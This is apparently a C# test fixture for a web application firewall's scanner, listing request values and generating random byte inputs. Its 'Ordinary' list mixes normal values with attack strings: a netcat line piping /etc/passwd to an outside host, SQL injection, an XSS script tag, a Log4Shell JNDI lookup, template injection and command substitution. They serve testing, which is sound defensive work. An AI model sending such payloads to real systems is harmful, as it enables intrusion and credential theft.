using System.Text;

namespace Breakwater.Waf.Tests.Scanning;

/// <summary>Values as requests carry them, and such as none does.</summary>
internal static class Values
{
    /// <summary>What visitors send.</summary>
    public static IReadOnlyList<byte[]> Ordinary { get; } =
    [
        .. new[]
        {
            "", "0", "42", "true", "hello world", "O'Brien", "a@example.com", "2026-11-23T10:00:00Z", "Zürich", "naïve café",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Safari/537.36",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "gzip, deflate, br, zstd", "en-GB,en;q=0.9",
            "/catalogue/shoes/running/trail-42.html", "https://shop.example.com/catalogue/shoes?colour=blue&size=42#top", "../../etc/passwd",
            "8c1f0f6be2a94c1d8e7f2b3a4c5d6e7f", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
            "I would like to order two of the blue ones, and if they are in stock, please select the express delivery from the list. Thanks!",
            "<p>Some <b>bold</b> text &amp; more</p>", "{\"name\":\"Ann\",\"items\":[1,2,3],\"ok\":true}", "SELECT name FROM users WHERE id = 1 OR 1=1 --",
            "<script>alert(1)</script>", "; cat /etc/passwd | nc example.com 80", "${jndi:ldap://example.com/a}", "{{7*7}}", "$(id)", "a=b; c=d; e=f",
            "if (x < 10 && y > 3) { return x ? y : z; } // a comment", "100% of it", "\\u003cscript", "%3Cscript%3E", "\0\x01\x02", "\t\r\n",
        }.Select(Encoding.UTF8.GetBytes),
    ];

    /// <summary>Random ones: of all bytes, of printable ones, and of punctuation.</summary>
    public static IEnumerable<byte[]> Random(Random random, int count)
    {
        byte[] punctuation = "'\"`;=<>()[]{}$|&#%\\/*-+.,:!?@^~ \n\t\0aeionrst01"u8.ToArray();
        for (int i = 0; i < count; i++)
        {
            byte[] value = new byte[random.Next(1, 200)];
            for (int at = 0; at < value.Length; at++)
            {
                value[at] = (i % 3) switch
                {
                    0 => (byte)random.Next(256),
                    1 => (byte)random.Next(32, 127),
                    _ => punctuation[random.Next(punctuation.Length)],
                };
            }

            yield return value;
        }
    }
}
